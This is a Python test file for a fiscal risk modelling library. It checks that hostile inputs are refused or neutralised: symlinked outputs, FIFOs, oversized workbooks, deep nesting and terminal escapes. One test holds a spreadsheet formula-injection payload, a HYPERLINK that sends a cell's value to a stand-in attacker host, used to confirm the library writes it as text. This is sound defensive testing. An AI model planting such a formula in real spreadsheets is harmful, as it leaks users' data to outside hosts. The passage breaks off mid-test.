"""Hostile input and the host (issue 18): exactly the file named, never written through a link,
bounded reads, and the silent wrong answers of ``check``. Each test failed before its fix; they
run through the command line where a user would meet the case."""

from __future__ import annotations

import os
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import pytest

import fiscalrisk as fr
from fiscalrisk._io import atomic_write

EXAMPLE_M8 = Path(fr.datasets.monitoring_example_path(8)).read_text(encoding="utf-8")
SCENARIO = Path(fr.examples.birmingham_2019_path())


def run(*args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "fiscalrisk", *args], capture_output=True, text=True, timeout=timeout)


def test_a_path_is_never_a_glob_pattern(tmp_path: Path) -> None:
    # "plan [v2].csv" used to match "plan v.csv" (a glob character class); "*" joined files.
    (tmp_path / "plan v.csv").write_text("not,a,monitoring,table\n1,2,3,4\n")
    named = tmp_path / "plan [v2].csv"
    named.write_text(EXAMPLE_M8)
    done = run("check", str(named))
    assert done.returncode in (0, 1), done.stderr
    assert "line_id" not in done.stderr
    star = tmp_path / "star"
    star.mkdir()
    (star / "a.csv").write_text(EXAMPLE_M8)
    done = run("check", str(star / "*.csv"))
    assert done.returncode == 2 and "no such file" in done.stderr


def test_outputs_are_never_written_through_a_link(tmp_path: Path) -> None:
    target = tmp_path / "precious.csv"
    target.write_text("keep me")
    link = tmp_path / "out.csv"
    link.symlink_to(target)
    done = run("simulate", str(SCENARIO), "--trials", "200", "--out", str(link))
    assert done.returncode == 2 and "symbolic link" in done.stderr
    assert target.read_text() == "keep me" and link.is_symlink()
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "missing" / "x.csv")
    done = run("simulate", str(SCENARIO), "--trials", "200", "--out", str(dangling))
    assert done.returncode == 2 and "dangling.csv is a symbolic link" in done.stderr
    report = tmp_path / "r.html"
    report.symlink_to("/dev/null")
    done = run("report", str(SCENARIO), "--trials", "200", "-o", str(report), "--quiet")
    assert done.returncode == 2 and "symbolic link" in done.stderr
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)  # still the device


def test_a_device_or_a_fifo_is_refused_before_it_is_read(tmp_path: Path) -> None:
    start = time.monotonic()
    done = run("simulate", "/dev/zero", "--trials", "10")
    assert done.returncode == 2 and "not a regular file" in done.stderr
    fifo = tmp_path / "plan.toml"
    os.mkfifo(fifo)
    done = run("simulate", str(fifo), "--trials", "10", timeout=30)
    assert done.returncode == 2 and "not a regular file" in done.stderr
    table = tmp_path / "table.csv"
    os.mkfifo(table)
    done = run("check", str(table), timeout=30)
    assert done.returncode == 2 and "not a regular file" in done.stderr
    assert time.monotonic() - start < 60


def test_atomic_write_never_touches_the_process_umask(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    umask = os.umask(0o022)
    try:
        seen: list[int] = []
        monkeypatch.setattr(os, "umask", lambda m: seen.append(m) or 0o022)
        out = tmp_path / "out.csv"
        atomic_write(out, lambda tmp: Path(tmp).write_text("a,b\n"))
        assert seen == []
        assert stat.S_IMODE(out.stat().st_mode) == 0o644
        assert not list(tmp_path.glob(".*.tmp"))
    finally:
        monkeypatch.undo()
        os.umask(umask)


def test_concurrent_writers_get_their_own_permissions(tmp_path: Path) -> None:
    errors: list[BaseException] = []

    def write(k: int) -> None:
        try:
            atomic_write(tmp_path / f"out{k}.csv", lambda tmp: Path(tmp).write_text("x\n"))
        except BaseException as e:  # pragma: no cover - reported below
            errors.append(e)

    threads = [threading.Thread(target=write, args=(k,)) for k in range(16)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors
    modes = {stat.S_IMODE((tmp_path / f"out{k}.csv").stat().st_mode) for k in range(16)}
    current = os.umask(0)
    os.umask(current)
    assert modes == {0o666 & ~current}


def test_blank_rows_are_skipped(tmp_path: Path) -> None:
    clean = tmp_path / "m08.csv"
    clean.write_text(EXAMPLE_M8)
    before = run("check", str(clean), "--format", "json")
    width = EXAMPLE_M8.splitlines()[0].count(",")
    for tail in ("\n", "," * width + "\n", "\n" + " ," * width + "\n"):
        padded = tmp_path / "padded.csv"
        padded.write_text(EXAMPLE_M8.rstrip("\n") + "\n" + tail)
        after = run("check", str(padded), "--format", "json")
        assert after.returncode == before.returncode, after.stdout + after.stderr
        assert "line_id is empty" not in after.stdout


def test_a_column_given_twice_is_refused(tmp_path: Path) -> None:
    lines = EXAMPLE_M8.splitlines()
    header = lines[0] + ",budget"
    rows = [r + ",1" for r in lines[1:]]
    table = tmp_path / "dup.csv"
    table.write_text("\n".join([header, *rows]) + "\n")
    done = run("check", str(table))
    assert done.returncode == 2 and "the column 'budget' appears twice" in done.stderr


@pytest.mark.parametrize("value", ["99999999999999999999999", "0", "-5", "many"])
def test_a_wild_trial_count_is_an_input_error_naming_the_flag(value: str) -> None:
    done = run("simulate", str(SCENARIO), "--trials", value)
    assert done.returncode == 2 and "--trials" in done.stderr and "Traceback" not in done.stderr


def test_sub_penny_amounts_are_named_not_failed_by_rounding(tmp_path: Path) -> None:
    lines = EXAMPLE_M8.splitlines()
    header = lines[0].split(",")
    budget = header.index("budget")
    rows = [r.split(",") for r in lines[1:]]
    for r in rows:
        if r[0] != "TOTAL":
            r[budget] = r[budget] + "4" if "." in r[budget] else r[budget] + ".004"
    table = tmp_path / "subpenny.csv"
    table.write_text("\n".join([lines[0], *(",".join(r) for r in rows)]) + "\n")
    done = run("check", str(table), "--format", "json")
    assert done.returncode == 1
    assert "has more than two decimal places: amounts are to the penny" in done.stdout
    assert "difference 0.00" not in done.stdout
    # A cell of 1e-28 used to panic inside the DataFrame library's decimal conversion.
    tiny = tmp_path / "tiny.csv"
    tiny.write_text(EXAMPLE_M8.replace("334000000.00", "1e-28", 1))
    data = fr.monitoring.read(tiny)
    with pytest.raises(fr.ValidationError, match="'1e-28' has more than two decimal places"):
        fr.monitoring.forecast(data)
    moves = data.movements(fr.datasets.monitoring_example(7))
    assert moves.filter(moves["line_id"] == "ADU-01")["change"].to_list() == [None]
    assert run("check", str(tiny)).returncode == 1


@pytest.mark.parametrize("value", ["50", "-5", "nan", "0"])
def test_a_rules_file_out_of_range_is_refused(tmp_path: Path, value: str) -> None:
    table = tmp_path / "m08.csv"
    table.write_text(EXAMPLE_M8)
    rules = tmp_path / "rules.toml"
    rules.write_text(f"one_off_share = {value}\n")
    done = run("check", str(table), "--rules", str(rules))
    assert done.returncode == 2 and "rules.one_off_share" in done.stderr


def test_a_table_of_many_short_rows_is_refused_before_parsing(tmp_path: Path) -> None:
    big = tmp_path / "big.csv"
    big.write_bytes(EXAMPLE_M8.splitlines()[0].encode() + b"\n" + b",\n" * 200_000)
    start = time.monotonic()
    done = run("check", str(big))
    assert done.returncode == 2 and "rows a monitoring table may have" in done.stderr
    assert time.monotonic() - start < 30


def test_findings_are_capped_per_rule_and_counted(tmp_path: Path) -> None:
    lines = EXAMPLE_M8.splitlines()
    header = lines[0].split(",")
    first = lines[1].split(",")
    first[header.index("budget")] = "oops"
    rows = []
    for i in range(300):
        r = list(first)
        r[0] = f"L{i}"
        rows.append(",".join(r))
    table = tmp_path / "many.csv"
    table.write_text("\n".join([lines[0], *rows, lines[-1]]) + "\n")
    done = run("check", str(table), "--format", "json")
    assert done.returncode == 1
    assert done.stdout.count("is not an amount of money") == 100
    assert "200 more findings of this rule are not listed" in done.stdout


def test_ambiguous_keys_are_refused_not_dropped(tmp_path: Path) -> None:
    base = fr.examples.birmingham_2019().to_toml()
    with pytest.raises(fr.ValidationError, match="no other key"):
        fr.Scenario.from_toml_str(base.replace("rho = 0.6\n", 'rho = 0.6\ncolour = "red"\n', 1))
    twice = base + (
        '\n[savings_delivery.amber]\np_full = 0.5\npartial = { dist = "fixed", value = 0.5 }\np_slip = 0.1\n'
        '\n[savings_delivery.AMBER]\np_full = 0.9\npartial = { dist = "fixed", value = 0.5 }\np_slip = 0.1\n'
    )
    with pytest.raises(fr.ValidationError, match="the delivery model for amber is given twice"):
        fr.Scenario.from_toml_str(twice)
    plan = '{"name": "x", "first_year": "2019/20", "years": 1, "net_budget": [1e6]}'
    with pytest.raises(fr.ValidationError, match="the key 'plan' appears twice"):
        fr.Scenario.from_json_str(f'{{"plan": {plan}, "plan": {plan}}}')


@pytest.mark.parametrize("depth", [600, 990, 5000])
def test_deeply_nested_json_is_a_validation_error(depth: int) -> None:
    text = '{"plan": {"name": "x", "first_year": "2019/20", "years": 1, "net_budget": [1e6]}, "risks": [' + '{"a": ' * depth + "1" + "}" * depth + "]}"
    with pytest.raises(fr.ValidationError):
        fr.Scenario.from_json_str(text)


def test_a_correlation_of_one_is_valid() -> None:
    import warnings

    risks = [fr.Risk(k, k, 0.5, fr.Uniform(1, 2)) for k in "abc"]
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        for rho in (1.0, -1.0):
            fr.RiskRegister(risks, correlations=[("a", "b", rho)], first_year="2019/20", strict=True)


def test_pert_quantiles_answer_the_whole_open_interval() -> None:
    d = fr.Pert(0, 1, 10)
    qs = [d.quantile(p) for p in (5e-324, 1e-200, 1e-100, 1e-20, 0.5, 1 - 1e-16)]
    assert qs == sorted(qs) and all(q == q for q in qs)


def test_amounts_beyond_1e15_are_refused_not_overflowed() -> None:
    base = fr.examples.birmingham_2019().to_dict()
    base["reserves"]["earmarked"] = [{"name": n, "balance": "7e28", "usable": True} for n in ("A", "B")]
    with pytest.raises(fr.ValidationError, match="beyond the 1e15"):
        fr.Scenario.from_dict(base)


WORKER = r"""
import os, signal, threading, time
import fiscalrisk as fr

s = fr.examples.birmingham_2019()
stop = threading.Event()
finished = threading.Event()
state = {}

def check(done, total):
    if stop.is_set():
        raise KeyboardInterrupt("stop requested")

def work():
    try:
        s.simulate(trials=20_000_000, seed=1, progress=check)
        state["outcome"] = "finished"
    except KeyboardInterrupt:
        state["outcome"] = "stopped"
    finally:
        finished.set()

t = threading.Thread(target=work)
t.start()
time.sleep(1.0)
start = time.monotonic()
threading.Timer(0.3, lambda: os.kill(os.getpid(), signal.SIGINT)).start()
try:
    while t.is_alive():
        t.join(0.1)
except KeyboardInterrupt:
    main = time.monotonic() - start
    stop.set()
    # Not t.join(): CPython 3.11 marks a thread whose join was interrupted as stopped.
    finished.wait(60)
    print(f"{main:.2f} {time.monotonic() - start:.2f} {state['outcome']}")
"""


def test_ctrl_c_reaches_the_main_thread_while_a_worker_simulates() -> None:
    # Thread.join() with no timeout is not interruptible in CPython (a pure-Python worker delays
    # Ctrl-C just the same, for as long as it runs); joined with a timeout, the main thread gets
    # KeyboardInterrupt at once, and the progress callback stops the worker's run once the
    # batches under way finish.
    done = subprocess.run([sys.executable, "-c", WORKER], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    main, total, outcome = done.stdout.split()
    assert float(main) < 3 and float(total) < 10 and outcome == "stopped", done.stdout


def test_an_excel_table_beyond_the_row_limit_or_with_a_repeated_header_is_refused(tmp_path: Path) -> None:
    import polars as pl

    big = tmp_path / "big.xlsx"
    pl.DataFrame({"line_id": [f"L{i}" for i in range(100_002)]}).write_excel(big)
    with pytest.raises(fr.ValidationError, match="more than the 100000 rows"):
        fr.monitoring.read(big)
    dup = tmp_path / "dup.xlsx"
    import xlsxwriter

    book = xlsxwriter.Workbook(str(dup))
    sheet = book.add_worksheet()
    for c, name in enumerate(["line_id", "budget", "budget"]):
        sheet.write(0, c, name)
    sheet.write_row(1, 0, ["A", 1, 2])
    book.close()
    with pytest.raises(fr.ValidationError, match="the column 'budget' appears twice"):
        fr.monitoring.read(dup)


def test_a_blank_forecast_fails_the_check_even_when_the_total_agrees(tmp_path: Path) -> None:
    # Issue 17: a blank forecast_outturn with the TOTAL reduced to match (an Excel SUM over a
    # blank) used to pass with exit 0.
    import json

    lines = EXAMPLE_M8.splitlines()
    header = lines[0].split(",")
    col = header.index("forecast_outturn")
    rows = [r.split(",") for r in lines[1:]]
    blanked = rows[0][col]
    rows[0][col] = ""
    total = next(r for r in rows if r[0] == "TOTAL")
    from decimal import Decimal

    total[col] = str(Decimal(total[col]) - Decimal(blanked))
    table = tmp_path / "blank.csv"
    table.write_text("\n".join([lines[0], *(",".join(r) for r in rows)]) + "\n")
    done = run("check", str(table), "--format", "json")
    assert done.returncode == 1
    found = [f for f in json.loads(done.stdout)["findings"] if f["rule"] == "missing-amount"]
    assert [(f["row"], f["column"]) for f in found] == [(2, "forecast_outturn")]
    junit = run("check", str(table), "--format", "junit").stdout
    assert 'name="missing-amount"' in junit and "blank; a line needs an amount" in junit


def test_from_frame_blames_the_cell_that_is_wrong_and_parses_numeric_text() -> None:
    import polars as pl

    df = pl.DataFrame({"id": ["a", "b"], "name": ["A", "B"], "probability": [0.5, 0.4], "dist": ["uniform", "uniform"],
                       "low": [1e6, 1e6], "high": ["5000000", "£4m"]})
    with pytest.raises(fr.ValidationError, match=r"^row 3 \('b'\), column high: '£4m' is not a number$"):
        fr.RiskRegister.from_frame(df, first_year="2019/20")
    as_text = df.with_columns(pl.col("high").replace("£4m", "4,000,000")).select(pl.all().cast(pl.String))
    reg = fr.RiskRegister.from_frame(as_text, first_year="2019/20")
    assert [r.impact.to_dict()["high"] for r in reg.risks] == [5e6, 4e6]


def test_the_command_line_reads_json_scenarios_and_answers_json_when_asked(tmp_path: Path) -> None:
    scenario = tmp_path / "plan.json"
    scenario.write_text(fr.examples.birmingham_2019().to_json())
    done = run("simulate", str(scenario), "--trials", "200")
    assert done.returncode == 0, done.stderr
    missing = run("check", str(tmp_path / "nope.csv"), "--format", "json")
    assert missing.returncode == 2
    import json

    assert json.loads(missing.stdout) == {"error": f"{tmp_path / 'nope.csv'}: no such file", "exit_code": 2}
    assert missing.stderr.strip().count("\n") == 0 and "Errno" not in missing.stderr
    assert "(default: 100000)" in run("simulate", "--help").stdout


# Issue 38, items 1 and 2: the two silent wrong answers.


def test_names_are_written_to_excel_as_text_never_as_live_formulas_or_links(tmp_path: Path) -> None:
    # A reserve named "=2+2" showed as 4 and a risk named "=HYPERLINK(...)" became a working
    # link: xlsxwriter's defaults turn strings starting with "=" into formulas, URLs into links.
    import zipfile

    import polars as pl

    link = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    text = SCENARIO.read_text(encoding="utf-8").replace(
        'name = "Equal pay claims beyond the provision"', f"name = '{link}'"
    )
    assert link in text
    text = text.replace('name = "Schools balances"', 'name = "=2+2"')
    scenario = tmp_path / "hostile.toml"
    scenario.write_text(text, encoding="utf-8")
    out = tmp_path / "out.xlsx"
    done = run("simulate", str(scenario), "--trials", "2000", "--seed", "1", "--out", str(out))
    assert done.returncode == 0, done.stderr
    with zipfile.ZipFile(out) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        xml = "".join(z.read(n).decode("utf-8") for n in sheets)
        rels = [n for n in z.namelist() if "worksheets/_rels" in n]
    assert "<f>" not in xml, "a text cell was written as a formula"
    assert not rels or not any(b"hyperlink" in zipfile.ZipFile(out).read(n) for n in rels)
    reserves = pl.read_excel(out, sheet_name="Reserves")
    names = [str(v) for c in reserves.columns for v in reserves[c].to_list()]
    assert "=2+2" in names and "4" not in names
    drivers = pl.read_excel(out, sheet_name="Drivers")
    assert link in drivers["Name"].to_list()


def test_negative_one_off_mitigations_are_refused_in_a_scenario() -> None:
    # -5e6 turned a £3m overspend into a £2m surplus in every year.
    text = """
[plan]
name = "m"
first_year = "2019/20"
years = 2
net_budget = [100e6, 100e6]

[in_year]
overspend = { dist = "fixed", value = 3e6 }
one_off_mitigations = -5e6

[reserves]
general_fund = 10e6
"""
    with pytest.raises(fr.ValidationError, match=r"in_year\.one_off_mitigations: -5000000(\.00)? is negative"):
        fr.Scenario.from_toml_str(text)
    fine = fr.Scenario.from_toml_str(text.replace("-5e6", "5e6"))
    assert fine.ledger()["recurring_gap"].to_list()[0] == 8_000_000


def test_negative_one_off_mitigations_fail_the_check_and_the_forecast(tmp_path: Path) -> None:
    # In a monitoring table a negative mitigation passed the check with 0 errors and read the
    # underlying variance as £2m instead of £12m.
    import json

    lines = EXAMPLE_M8.splitlines()
    header = lines[0].split(",")
    col = header.index("one_off_mitigations")
    rows = [r.split(",") for r in lines[1:]]
    rows[0][col] = "-5000000"
    table = tmp_path / "negative.csv"
    table.write_text("\n".join([lines[0], *(",".join(r) for r in rows)]) + "\n")
    done = run("check", str(table), "--format", "json")
    assert done.returncode == 1, done.stdout
    found = [f for f in json.loads(done.stdout)["findings"] if f.get("column") == "one_off_mitigations"]
    assert found and "is negative" in found[0]["message"]
    with pytest.raises(fr.ValidationError, match="one_off_mitigations.*is negative"):
        fr.monitoring.forecast(fr.monitoring.read(table))


def _m8_with_cell(path: Path, column: str, write: Any) -> Path:
    """The month-8 table as an xlsx workbook, numbers as numbers, with the first line's
    ``column`` cell written by ``write(sheet, row, col)`` instead."""
    import xlsxwriter

    lines = [r.split(",") for r in EXAMPLE_M8.splitlines()]
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet()
    special = lines[0].index(column)
    for r, row in enumerate(lines):
        for c, cell in enumerate(row):
            if r == 1 and c == special:
                write(sheet, r, c)
            elif r > 0 and cell and cell.lstrip("-").replace(".", "", 1).isdigit():
                sheet.write_number(r, c, float(cell))
            else:
                sheet.write_string(r, c, cell)
    book.close()
    return path


def test_a_boolean_excel_cell_is_not_an_amount(tmp_path: Path) -> None:
    # Issue 38, item 4: a TRUE cell in an amount column was read as £1.00, seen only through a
    # totals mismatch.
    import json

    path = _m8_with_cell(tmp_path / "bool.xlsx", "budget", lambda sheet, r, c: sheet.write_boolean(r, c, True))
    done = run("check", str(path), "--format", "json")
    assert done.returncode == 1, done.stdout
    found = [f for f in json.loads(done.stdout)["findings"] if f.get("column") == "budget" and f.get("row") == 2]  # Excel's row 2
    assert found and "not an amount" in found[0]["message"], found


def test_a_line_that_does_not_add_up_to_the_total_stops_the_hand_over(tmp_path: Path) -> None:
    # Issue 38, item 6: with_in_year and forecast read only the TOTAL row, so a line changed to
    # 1e15 beside an unchanged TOTAL gave identical results and no error.
    import polars as pl

    lines = EXAMPLE_M8.splitlines()
    header = lines[0].split(",")
    col = header.index("forecast_outturn")
    rows = [r.split(",") for r in lines[1:]]
    rows[0][col] = "1000000000000000"
    table = tmp_path / "line.csv"
    table.write_text("\n".join([lines[0], *(",".join(r) for r in rows)]) + "\n")
    data = fr.monitoring.read(table)
    with pytest.raises(fr.ValidationError, match=r"column forecast_outturn: lines add to .* but the TOTAL row says"):
        fr.monitoring.forecast(data)
    with pytest.raises(fr.ValidationError, match="forecast_outturn"):
        fr.examples.birmingham_2019().with_in_year(data)
    # A forecast table edited after the fact is refused too.
    good = fr.monitoring.forecast(fr.monitoring.read(fr.datasets.monitoring_example_path(8)))
    edited = good.with_columns(
        pl.when(pl.int_range(pl.len()) == 0).then(pl.lit(10**15)).otherwise(pl.col("forecast_outturn"))
        .cast(good["forecast_outturn"].dtype).alias("forecast_outturn")
    )
    with pytest.raises(fr.ValidationError, match=r"forecast_outturn: the lines add to .* but the TOTAL row says"):
        fr.examples.birmingham_2019().with_in_year(edited)
    # The table as published hands over.
    assert fr.examples.birmingham_2019().with_in_year(good).to_dict()["in_year"]


BASE_PLAN = {"plan": {"name": "x", "first_year": "2019/20", "years": 2, "net_budget": [100e6, 100e6]},
             "reserves": {"general_fund": 30e6}}


@pytest.mark.parametrize(
    ("change", "message"),
    [
        # Issue 38, item 7: True was taken as 1 year; "false" as a recurring pressure; True as
        # a probability of 1.
        (lambda d: d["plan"].__setitem__("years", True), r"plan\.years: true is not a number"),
        (lambda d: d.__setitem__("pressures", [{"name": "p", "amount": {"dist": "fixed", "value": 1e6},
                                                "first_year": "2019/20", "recurring": "false"}]),
         r'pressures\[0\]\.recurring: "false" is not true or false'),
        (lambda d: d.__setitem__("risks", [{"id": "r", "name": "r", "probability": True,
                                            "impact": {"dist": "fixed", "value": 1e6}}]),
         r"risks\[0\]\.probability: true is not a number"),
        (lambda d: d["plan"].__setitem__("years", 10**400), r"plan\.years: an integer of 401 digits is too large"),
        (lambda d: d["plan"].__setitem__("net_budget", [100e6, {1, 2}]), r"plan\.net_budget\[1\]: a set is not data"),
    ],
)
def test_python_data_keeps_its_types(change: object, message: str) -> None:
    import copy

    data = copy.deepcopy(BASE_PLAN)
    change(data)  # type: ignore[operator]
    with pytest.raises(fr.ValidationError, match=message):
        fr.Scenario.from_dict(data)


def test_a_transfer_beyond_what_its_source_can_hold_is_refused() -> None:
    # Issue 38, item 7: £1e12 from a £30m general fund was capped at £30m without a word.
    import copy

    data = copy.deepcopy(BASE_PLAN)
    data["reserves"]["earmarked"] = [{"name": "Resilience", "balance": 0, "usable": True}]
    data["reserves"]["transfers"] = [{"year": "2019/20", "from": "general_fund", "to": "Resilience", "amount": 1e12}]
    with pytest.raises(fr.ValidationError, match=r'transfers\[0\]\.amount: £1000000000000\.00 is more than "general_fund" can hold'):
        fr.Scenario.from_dict(data)
    # What is planned into it before then counts: a contribution in 2019/20 funds a 2020/21 transfer.
    data["reserves"]["planned_contribution"] = {"2019/20": 5e6}
    data["reserves"]["transfers"] = [{"year": "2020/21", "from": "general_fund", "to": "Resilience", "amount": 35e6}]
    fr.Scenario.from_dict(data)
    data["reserves"]["transfers"][0]["amount"] = 35e6 + 0.01
    with pytest.raises(fr.ValidationError, match="35000000.01"):
        fr.Scenario.from_dict(data)


def _m8_workbook(path: Path, extra: "dict[tuple[int, int], str] | None" = None) -> None:
    import xlsxwriter

    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet()
    for r, row in enumerate(EXAMPLE_M8.splitlines()):
        for c, cell in enumerate(row.split(",")):
            sheet.write_string(r, c, cell)
    for (r, c), text in (extra or {}).items():
        sheet.write_string(r, c, text)
    book.close()


def test_a_stray_cell_far_from_the_table_is_refused_before_the_reader_allocates(tmp_path: Path) -> None:
    # Issue 38, item 8: the m08 table plus one cell at XFD1048576 (a 2.5 KB file) made the
    # reader allocate 549,755,813,888 bytes and abort the interpreter (exit 134).
    path = tmp_path / "stray.xlsx"
    _m8_workbook(path, {(1_048_575, 16_383): "x"})
    assert path.stat().st_size < 20_000
    with pytest.raises(fr.ValidationError, match="cell XFD1048576 makes the sheet more than the 100000 rows"):
        fr.monitoring.read(path)
    done = run("check", str(path))
    assert done.returncode == 2 and "XFD1048576" in done.stderr, (done.returncode, done.stderr)
    wide = tmp_path / "wide.xlsx"
    _m8_workbook(wide, {(0, 5_000): "x"})
    with pytest.raises(fr.ValidationError, match="cell GJI1 makes the sheet more than the 1000 columns"):
        fr.monitoring.read(wide)
    # The table itself reads.
    plain = tmp_path / "plain.xlsx"
    _m8_workbook(plain)
    assert fr.monitoring.read(plain).last_month == fr.monitoring.read(fr.datasets.monitoring_example_path(8)).last_month


def test_a_workbook_part_that_unpacks_too_far_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Issue 38, item 10: one 1 GiB cell in a 1.0 MB xlsx took 5.6 GB, then aborted. The limit is
    # lowered here so that the test stays small; the check is the same.
    path = tmp_path / "cell.xlsx"
    _m8_workbook(path, {(1, 20 + k): chr(97 + k) * 30_000 for k in range(10)})
    monkeypatch.setattr(fr.monitoring._native, "MAX_XLSX_PART_BYTES", 100_000)
    with pytest.raises(fr.ValidationError, match=r"unpacks to [0-9,]+ bytes, more than the 100,000"):
        fr.monitoring.read(path)


def test_csv_and_parquet_extents_are_bounded_before_parsing(tmp_path: Path) -> None:
    import polars as pl

    # Issue 38, item 10: a CSV whose header has a million columns, and one with CR-only line
    # endings (the row guard counted LF only).
    wide = tmp_path / "wide.csv"
    wide.write_bytes(b",".join(b"c%d" % i for i in range(1_000_000)) + b"\n")
    start = time.monotonic()
    with pytest.raises(fr.ValidationError, match="more than the 1000 columns"):
        fr.monitoring.read(wide)
    assert time.monotonic() - start < 10
    cr = tmp_path / "cr.csv"
    cr.write_bytes(EXAMPLE_M8.splitlines()[0].encode() + b"\r" + b",\r" * 200_000)
    with pytest.raises(fr.ValidationError, match="more than the 100000 rows"):
        fr.monitoring.read(cr)
    # Parquet: rows bounded by the read, columns by the schema before it.
    rows = tmp_path / "rows.parquet"
    pl.DataFrame({"line_id": ["x"] * 100_002}).write_parquet(rows)
    with pytest.raises(fr.ValidationError, match="more than the 100000 rows"):
        fr.monitoring.read(rows)
    cols = tmp_path / "cols.parquet"
    pl.DataFrame({f"c{i}": [1] for i in range(1_001)}).write_parquet(cols)
    with pytest.raises(fr.ValidationError, match=r"more than the 1000 columns a table may have \(1001\)"):
        fr.monitoring.read(cols)


@pytest.mark.parametrize(
    ("change", "year"),
    [
        # Issue 38, item 9: each panicked with "Multiplication overflowed" (exit 3, a backtrace).
        (lambda d: d["funding"]["council_tax"].update(tax_base=1e15, band_d=1e15), "the plan's years"),
        (lambda d: (d["plan"].update(years=100), d["funding"]["council_tax"].update(core_increase=0.99)), "2046/47"),
        (lambda d: (d["plan"].update(years=40), d["funding"]["council_tax"].update(tax_base_growth=10)), "2031/32"),
    ],
)
def test_budgets_beyond_the_exact_range_are_errors_not_panics(change: object, year: str) -> None:
    import copy

    data = {"plan": {"name": "x", "first_year": "2024/25", "years": 3},
            "funding": {"council_tax": {"tax_base": 100_000, "band_d": 2100}},
            "spending": [{"name": "Services", "base": 230e6}],
            "reserves": {"general_fund": 20e6}}
    fr.Scenario.from_dict(copy.deepcopy(data)).mtfs()
    change(data)  # type: ignore[operator]
    with pytest.raises(fr.ValidationError, match=rf"^funding: the budget in {year} reaches amounts beyond £1e15"):
        fr.Scenario.from_dict(data)


def test_control_characters_never_reach_the_terminal_or_break_junit(tmp_path: Path) -> None:
    # Issue 38, item 16: a file name with control characters made the JUnit output ill-formed
    # XML, and a line id's terminal escapes reached the terminal through `check`.
    from xml.etree import ElementTree

    lines = EXAMPLE_M8.splitlines()
    rows = [r.split(",") for r in lines[1:]]
    rows[0][0] = "A\x1b[2J"
    rows[0][lines[0].split(",").index("forecast_outturn")] = ""  # a finding on that line
    table = tmp_path / "m08\x01\x1b[31m.csv"
    body = "\n".join([lines[0], *(",".join(r) for r in rows)]) + "\n"
    table.write_text(body)
    junit = run("check", str(table), "--format", "junit")
    root = ElementTree.fromstring(junit.stdout)
    assert root.tag == "testsuite" and "\\x1b" in root.find("testcase").get("classname")  # type: ignore[union-attr]
    text = run("check", str(table))
    assert "\x1b" not in text.stdout and "\x01" not in text.stdout
    # The line id is shown escaped (the core quotes it as Rust does: \u{1b}).
    assert "\\u{1b}[2J" in text.stdout or "\\x1b[2J" in text.stdout, text.stdout


def test_a_huge_json_integer_and_a_lone_surrogate_are_validation_errors(tmp_path: Path) -> None:
    # Issue 38, item 11: a JSON integer of more than 4,300 digits escaped as a ValueError (exit 3,
    # "internal error"); a lone surrogate in TOML text as a bare UnicodeEncodeError.
    big = tmp_path / "big.json"
    big.write_text('{"plan": {"name": "x", "first_year": "2019/20", "years": ' + "1" * 5000 + "}}")
    done = run("simulate", str(big), "--trials", "10")
    assert done.returncode == 2 and "4300 digits" in done.stderr, (done.returncode, done.stderr)
    with pytest.raises(fr.ValidationError, match=r"line 2: the character '\\ud800' is a lone surrogate"):
        fr.Scenario.from_toml_str('[plan]\nname = "\ud800"\n')
    with pytest.raises(fr.ValidationError, match="lone surrogate"):
        fr.RiskRegister.from_toml_str('[[risks]]\nid = "\ud800"\n')


def test_no_message_echoes_a_whole_input(tmp_path: Path) -> None:
    # Issue 38, item 12: a 64 MiB TOML of one long line gave a 134 MB message.
    long = "x" * (8 << 20)
    with pytest.raises(fr.ValidationError) as e:
        fr.Scenario.from_toml_str('[plan]\nname = "' + long + '\n')
    assert len(str(e.value)) < 5_000
    with pytest.raises(fr.ValidationError) as e:
        fr.Scenario.from_dict({"plan": {"name": "x", "first_year": long, "years": 1, "net_budget": [1e6]}})
    assert len(str(e.value)) < 1_200 and "characters]" in str(e.value)
    # A malformed CSV's parser message is clipped too.
    bad = tmp_path / "quote.csv"
    bad.write_text(EXAMPLE_M8.splitlines()[0] + "\n\"" + "y" * 2_000_000 + "\n")
    with pytest.raises(fr.ValidationError) as e:
        fr.monitoring.read(bad)
    assert len(str(e.value)) < 5_000


@pytest.mark.parametrize(
    ("text", "message"),
    [
        # Issue 38, item 15: serde's words reached the user.
        ('[funding.council_tax]\ntax_base = "abc"\nband_d = 1000\n', r"funding\.council_tax\.tax_base: .*expected an amount \(Band D equivalents"),
        ('[policy]\nminimum_general_fund = "risk_assessed"\n', r"expected one of \{ amount = \.\.\. \}"),
        ("[x]\ny = " + "[" * 200 + "]" * 200 + "\n", "nested too deeply"),
    ],
)
def test_messages_are_in_the_users_words(text: str, message: str) -> None:
    base = '[plan]\nname = "x"\nfirst_year = "2019/20"\nyears = 1\nnet_budget = [1e6]\n'
    with pytest.raises(fr.ValidationError, match=rf"(?s){message}"):
        fr.Scenario.from_toml_str(base + text)


def test_a_toml_date_and_an_integer_out_of_range_are_named() -> None:
    with pytest.raises(fr.ValidationError, match=r'(?s)plan\.first_year: .*a TOML date is not text \(write it in quotes: a year is "2019/20"\)'):
        fr.Scenario.from_toml_str('[plan]\nname = "x"\nfirst_year = 2019-04-01\nyears = 1\nnet_budget = [1e6]\n')
    with pytest.raises(fr.ValidationError, match=r"plan\.years: 1000000000000 is out of range \(at most 4294967295\)"):
        fr.Scenario.from_dict({"plan": {"name": "x", "first_year": "2019/20", "years": 10**12, "net_budget": [1e6]}})


def test_value_counts_kept_trials_and_names_are_bounded() -> None:
    # Issue 38, item 13: 4.2M discrete values took 13 s and 1.5 GB; a 60 MiB plan name made a
    # 250 MB report; kept trials at the old cap took 5.1 GB.
    many = list(range(1_000_001))
    with pytest.raises(fr.ValidationError, match="values: 1000001 values is more than the 1000000 allowed"):
